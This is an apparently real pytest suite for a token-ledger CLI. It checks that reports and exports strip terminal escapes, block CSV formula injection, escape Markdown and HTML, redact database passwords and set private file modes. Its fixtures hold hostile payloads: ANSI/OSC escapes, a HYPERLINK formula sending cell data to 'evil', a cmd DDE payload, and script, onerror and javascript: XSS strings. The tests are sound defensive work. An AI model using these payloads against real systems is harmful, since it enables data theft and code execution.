"""What leaves the ledger is safe for where it goes (issue 10, defects 4 to 7 and the
``exports/`` folder mode).

Hostile names are written straight into a ledger with sqlite3, as an old ledger (from
before names were neutralised at the door) may hold them; then every command that
displays or exports them runs as a real subprocess, and its output is checked:

- no control byte (ESC, BEL, C1, NUL, bidi overrides) on any stdout or stderr (defect 4);
- CSV cells never start a formula (defect 5);
- no credential from a database URL anywhere: stdout, stderr, files written, logs (defect 6);
- Markdown and HTML carry the names as text only: no element, attribute or link from the
  data (defect 7);
- ``exports/`` is 0700 and its files 0600 whatever the umask.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime
from html import unescape as html_unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import needs_postgres, run

ESC_CLEAR = "\u001b[2J\u001b[31mRED"
OSC_TITLE = "\u001b]0;pwned\u0007"
#: What must never reach a terminal or a file: C0 but newline (and TAB, which Rich's
#: tables do not use), DEL, C1, the bidi embeddings/overrides/isolates.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PW = "PWsecret42"


def _today() -> str:
    return datetime.now(UTC).strftime("%Y-%m-%d")


def hostile_ledger(home: Path, names: dict[str, dict[str, str]]) -> Path:
    """A ledger with one event per entry of ``names`` (client -> fields to overwrite),
    the hostile values written directly with sqlite3 (the door would neutralise them)."""
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    items = [
        {"client": "manual", "model": "gpt-4o", "timestamp": now, "input_tokens": 1000 + i,
         "output_tokens": 50, "session": f"s{i}", "project": f"/home/x/p{i}", "id": f"e{i}"}
        for i in range(len(names))
    ]
    proc = run("log", "--json", "-", input=json.dumps(items))
    assert proc.returncode == 0, proc.stderr
    db = home / "ledger.db"
    con = sqlite3.connect(db)
    try:
        for i, fields in enumerate(names.values()):
            sets = ", ".join(f"{k} = ?" for k in fields)
            con.execute(f"UPDATE events SET {sets} WHERE event_id = ?", [*fields.values(), f"e{i}"])
        con.execute(
            "INSERT INTO sources (client, path, skipped_lines, skip_reasons) VALUES (?, ?, 3, ?)",
            ("claude-code", f"/x/{ESC_CLEAR}/t.jsonl", json.dumps({OSC_TITLE: 3})),
        )
        con.commit()
    finally:
        con.close()
    return db


TERMINAL_NAMES = {
    "a": {"model": ESC_CLEAR, "project": OSC_TITLE, "session": "\u009b31m" + OSC_TITLE},
    "b": {"model": OSC_TITLE, "project": ESC_CLEAR, "session": ESC_CLEAR + "\u202e", "client": OSC_TITLE},
    "c": {"model": "bidi\u202eevil\u2066x\u0000nul\u007fdel", "project": "/p/\u0085nel"},
}


@pytest.fixture
def terminal_home(home: Path) -> Path:
    hostile_ledger(home, TERMINAL_NAMES)
    return home


def _clean(out: str, what: str) -> None:
    bad = FORBIDDEN.findall(out)
    assert not bad, f"{what}: control characters {sorted(set(map(repr, bad)))} in {out[:600]!r}"


SINCE = ("--since", "2020-01-01")
COMMANDS = [
    ("report",),
    ("report", "weekly"),
    ("report", "monthly", "--by", "model"),
    ("report", "daily", "--by", "project"),
    ("report", "daily", "--by", "client"),
    ("report", "session"),
    ("report", "--model", ESC_CLEAR),
    ("report", "--project", OSC_TITLE),
    ("export", "--format", "md", *SINCE),
    ("export", "--format", "html", *SINCE),
    ("export", "--format", "csv", *SINCE),
    ("export", "--format", "json", *SINCE),
    ("estimate", "--model", ESC_CLEAR),
    ("estimate", "--model", "[bold red]" + OSC_TITLE),
    ("methodology",),
    ("hooks", "status"),
    ("statusline",),
    ("import", "claude-code", f"/nonexistent/{ESC_CLEAR}/{OSC_TITLE}.jsonl"),
    ("export", "--ledger", f"/nonexistent/{OSC_TITLE}.db", "--format", "md"),
    ("report", "--since", ESC_CLEAR),
]


@pytest.mark.parametrize("args", COMMANDS, ids=lambda a: " ".join(a)[:40].encode("unicode_escape").decode())
def test_no_control_character_reaches_the_terminal(terminal_home: Path, args: tuple[str, ...]) -> None:
    proc = run(*args, env={"COLUMNS": "160"})
    assert "Traceback" not in proc.stderr, proc.stderr
    _clean(proc.stdout, f"{args} stdout")
    _clean(proc.stderr, f"{args} stderr")


def test_footprint_slash_command_has_no_control_character(terminal_home: Path) -> None:
    code = "import sys; from hooks.footprint import main; raise SystemExit(main(['--tz', 'UTC']))"
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          env={**os.environ, "TOKENPRINT_HOME": str(terminal_home)}, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert "RED" in proc.stdout and "pwned" in proc.stdout  # shown, neutralised
    _clean(proc.stdout + proc.stderr, "/footprint")


def test_json_export_strings_carry_no_control_character(terminal_home: Path) -> None:
    proc = run("export", "--format", "json", *SINCE)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)

    def strings(v: Any) -> Any:
        if isinstance(v, str):
            yield v
        elif isinstance(v, dict):
            for k, x in v.items():
                yield str(k)
                yield from strings(x)
        elif isinstance(v, list):
            for x in v:
                yield from strings(x)

    models = {r["model"] for r in doc["rows"]}
    assert "?[2J?[31mRED" in models  # the same mark the door stores
    for s in strings(doc):
        _clean(s, "json string")


def test_one_helper_strips_every_kind_of_control() -> None:
    from ledger.names import terminal_safe

    for ch in [*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0)),
               *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))]:
        assert terminal_safe(f"a{ch}b") == "a?b", repr(ch)
        assert terminal_safe(f"a{ch}b", mark="") in ("ab", "a b")
    assert terminal_safe("a\r\nb\nc", mark="", newline=" ") == "a b c"
    assert terminal_safe("claude-sonnet-4-5 · 東京 ✓") == "claude-sonnet-4-5 · 東京 ✓"
    # emoji sequences keep their joiner (as the ledger stores them): 👩‍💻, not 👩?💻
    assert terminal_safe("dev/\U0001f469\u200d\U0001f4bb\x1b") == "dev/\U0001f469\u200d\U0001f4bb?"


# -- defect 5: CSV formula injection ------------------------------------------------------
FORMULAS = {
    "a": {"model": '=HYPERLINK("http://evil/?x="&A1,"click")', "project": "/p/a"},
    "b": {"model": "+cmd|' /C calc'!A0"},
    "c": {"model": "-2+3"},
    "d": {"model": "@SUM(A1:A2)"},
    "e": {"model": "\t=1+1"},
    "f": {"model": "\r=1+1"},
    "g": {"model": '"=1+1'},
    "h": {"model": " =1+1", "client": "=client"},
}


def test_csv_cells_never_start_a_formula(home: Path) -> None:
    hostile_ledger(home, FORMULAS)
    proc = run("export", "--format", "csv", *SINCE)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert len(rows) == len(FORMULAS)
    for r in rows:
        for col in ("client", "model"):
            cell = r[col]
            stripped = cell.lstrip(" \"'")
            assert cell.startswith("'") or stripped[:1] not in ("=", "+", "-", "@", "\t", "\r"), (col, cell)
        for col in ("input_tokens", "output_tokens", "requests", "co2e_g_central"):
            float(r[col])  # numbers stay numbers: no quote, no prefix
            assert not r[col].startswith("'")
    models = {r["model"] for r in rows}
    assert "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")" in models
    assert "'-2+3" in models and "'@SUM(A1:A2)" in models
    assert "'?=1+1" not in models and "?=1+1" in models  # TAB/CR are neutralised first: no formula left
    assert "'\"=1+1" in models and "' =1+1" in models
    assert "'=client" in {r["client"] for r in rows}


# -- defect 7: Markdown and HTML ----------------------------------------------------------
MARKUP = {
    "a": {"model": "<script>alert(1)</script>", "project": '/p/"><img src=x onerror=alert(1)>'},
    "b": {"model": "[x](javascript:alert(1))", "project": "/p/[y](javascript:alert(2))",
          "client": "`code` *em* _u_ # h"},
    "c": {"model": "line1\nline2\r\n| col |", "project": "/p/new\nline", "client": "nul\x00esc\x1bbel\x07"},
    "d": {"model": "``x``y`", "project": "/p/<b onmouseover=alert(3)>b</b>", "client": "![i](http://e/x.png)"},
}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += attrs
        self.hrefs += [v or "" for k, v in attrs if k in ("href", "src")]


def _assert_no_element_from_data(html: str) -> None:
    p = _Collect()
    p.feed(html)
    assert "script" not in p.tags and "img" not in p.tags and "b" not in p.tags, sorted(set(p.tags))
    assert not [k for k, _v in p.attrs if k.startswith("on")], p.attrs
    assert not [h for h in p.hrefs if "javascript" in h.lower() or h.startswith("x")], p.hrefs


def test_markdown_escapes_every_user_string(home: Path) -> None:
    from markdown_it import MarkdownIt

    hostile_ledger(home, MARKUP)
    proc = run("export", "--format", "md", *SINCE)
    assert proc.returncode == 0, proc.stderr
    md = proc.stdout
    _clean(md.replace("\n", ""), "md")
    assert "<script" not in md and "<img" not in md and "<b " not in md
    for line in md.splitlines():  # a newline in a name never breaks a table row
        if line.startswith("| "):
            assert line.endswith("|"), line
    html = MarkdownIt("commonmark").enable("table").render(md)
    _assert_no_element_from_data(html)
    assert "<a " not in html
    # the names are still there, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[x](javascript:alert(1))" in html
    assert "line1 line2" in html


def test_markdown_helpers() -> None:
    from markdown_it import MarkdownIt

    from ledger.export import md

    assert md.text("[x](javascript:alert(1))") == r"\[x\](javascript:alert(1))"
    assert md.text("a\nb<i>") == "a b&lt;i&gt;"
    assert md.text("1. - + # ! ~ | { } . _ * ` \\") == r"1\. - + # ! \~ \| { } . \_ \* \` \\"
    # names stay readable in the raw file: nothing escaped that cannot be syntax there
    for plain in ("claude-code", "(none)", "2026.11", "gpt-4.1", "/home/a/my-proj"):
        assert md.text(plain) == plain
    # and every string renders as exactly its characters, at the start of a line or a
    # list item, in a paragraph or a table cell: no element, link or emphasis of its own
    render = MarkdownIt("commonmark").enable("table").enable("strikethrough").render
    for name in ("# h", "- x", "+ x", "1. x", "2) x", "> q", "=", "***", "_a_", "~~s~~", "a|b",
                 "[x](javascript:alert(1))", "![i](x)", "<b>x</b>", "`c`", "\\*x*", "a\\|b"):
        for doc in (md.text(name), f"- {md.text(name)}", f"| a |\n| --- |\n| {md._pipes(md.text(name))} |"):
            html = render(doc)
            inner = re.sub(r"</?(p|ul|li|table|thead|tbody|tr|th|td)>", "", html)
            assert "<" not in inner.replace("&lt;", ""), (name, doc, html)
            assert html_unescape(re.sub(r"<[^>]+>", "", inner)).strip().endswith(name.strip()), (name, doc, html)
    assert md.code("a``b") == "```a``b```"
    assert md.code("`x`") == "`` `x` ``"
    assert md.prose("# not a heading") == "\\# not a heading"
    assert md._pipes(r"a|b\|c") == r"a\|b\|c"


def test_html_carries_names_as_text_only(home: Path) -> None:
    hostile_ledger(home, MARKUP)
    proc = run("export", "--format", "html", *SINCE)
    assert proc.returncode == 0, proc.stderr
    html = proc.stdout
    _clean(html.replace("\n", ""), "html")
    _assert_no_element_from_data(html)
    assert "&lt;script&gt;" in html and "onerror=alert(1)&gt;" in html


# -- defect 6: credentials ----------------------------------------------------------------
def _no_secret(home: Path, *texts: str, secret: str = PW) -> None:
    for t in texts:
        assert secret not in t, t[:2000]
    for p in home.rglob("*"):
        if p.is_file():
            assert secret.encode() not in p.read_bytes(), p


@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
def test_unreachable_server_ledger_password_never_shown(home: Path, tmp_path: Path, fmt: str) -> None:
    url = f"postgresql://tp:{PW}@127.0.0.1:1/x?password={PW}&sslpassword={PW}"
    out = tmp_path / f"out.{fmt}"
    for target in ([], ["-o", str(out)]):
        proc = run("export", "--ledger", url, "--format", fmt, *SINCE, *target)
        assert proc.returncode == 1, proc.stderr
        assert proc.stderr.startswith("tokenprint: ") and proc.stderr.count("\n") == 1, proc.stderr
        _no_secret(home, proc.stdout, proc.stderr)
    assert not out.exists()


def test_a_bad_url_and_the_environment_url_are_redacted(home: Path) -> None:
    for env in ({"TOKENPRINT_DATABASE_URL": f"postgresql://tp:{PW}@127.0.0.1:1/x"},
                {"TOKENPRINT_DATABASE_URL": f"nosuchdriver://tp:{PW}@h/x"}):
        for args in (("report",), ("export", *SINCE), ("log", "--model", "m", "--input", "1")):
            proc = run(*args, env=env)
            assert proc.returncode != 0
            assert "Traceback" not in proc.stderr, proc.stderr
            _no_secret(home, proc.stdout, proc.stderr)
    proc = run("export", "--ledger", f"nosuchdriver://tp:{PW}@h/x")
    assert proc.returncode == 2 and "tp:***@h" in proc.stderr, proc.stderr
    _no_secret(home, proc.stdout, proc.stderr)


def test_url_label_is_the_database_or_host_never_the_user() -> None:
    from tui.commands.export import ledger_labels

    labels = ledger_labels((f"postgresql://tp:{PW}@host:5432", f"postgresql://tp:{PW}@db.example/team?password={PW}"))
    assert [label for label, _raw in labels] == ["host", "team"]


def test_hook_log_never_holds_a_credential_or_an_escape(home: Path) -> None:
    from hooks.hooklog import log, log_path

    log(home, "claude-code", f"failed: postgresql://tp:{PW}@h/x?password={PW} host=h password={PW}\n{ESC_CLEAR}")
    text = log_path(home).read_text()
    assert PW not in text and "tp:***@h/x" in text
    _clean(text.rstrip("\n"), "hook.log")


@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
def test_real_server_ledger_export_has_no_password(home: Path, tmp_path: Path, fmt: str,
                                                   request: pytest.FixtureRequest) -> None:
    for m in needs_postgres:
        if m.name == "skipif" and m.args[0]:
            pytest.skip(m.kwargs["reason"])
    pg_url = request.getfixturevalue("pg_url")
    hostile_ledger(home, {"a": {"project": "/p/me"}})
    from ledger.events import Event
    from ledger.store import open_store

    store = open_store(url=pg_url)
    try:
        ts = int(datetime.now(UTC).timestamp() * 1000)
        store.ingest([Event(client="manual", event_id="pg1", model="gpt-4o", ts_ms=ts, input_tokens=10,
                            output_tokens=5, project="/p/team")])
    finally:
        store.dispose()
    scheme, rest = pg_url.split("://", 1)
    user, _, hostpart = rest.partition("@")
    secret_url = f"{scheme}://{user}:{PW}@{hostpart}"
    out = tmp_path / f"team.{fmt}"
    proc = run("export", "--ledger", secret_url, "--format", fmt, "--since", _today(), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    text = out.read_text()
    assert "gpt-4o" in text
    _no_secret(home, proc.stdout, proc.stderr, text)
    proc = run("export", "--ledger", secret_url, "--ledger", f"me={home / 'ledger.db'}", "--format", fmt,
               "--since", _today())
    assert proc.returncode == 0, proc.stderr
    _no_secret(home, proc.stdout, proc.stderr)


# -- exports/ folder mode ------------------------------------------------------------------
def test_exports_folder_0700_and_files_0600_under_umask_0(home: Path) -> None:
    hostile_ledger(home, {"a": {"model": "gpt-4o"}})
    (home / "exports").mkdir(mode=0o755)
    os.chmod(home / "exports", 0o755)  # an old, loose folder
    code = (
        "import os, sys, stat\n"
        "os.umask(0)\n"
        "from pathlib import Path\n"
        "from ledger.store import open_store\n"
        "from ledger.export import export_to_file\n"
        "home = Path(sys.argv[1])\n"
        "s = open_store(home)\n"
        "out = []\n"
        "for folder, fmt in ((home / 'exports', 'md'), (home / 'exports', 'html'), (home / 'new-exports', 'csv')):\n"
        "    p = export_to_file([('l', s)], fmt, None, None, folder, {}, tz='UTC', private_folder=True)\n"
        "    out.append(f'{stat.S_IMODE(os.stat(p).st_mode):o} {stat.S_IMODE(os.stat(p.parent).st_mode):o}')\n"
        "print(' '.join(out))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code, str(home)], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "TOKENPRINT_HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == ["600", "700"] * 3
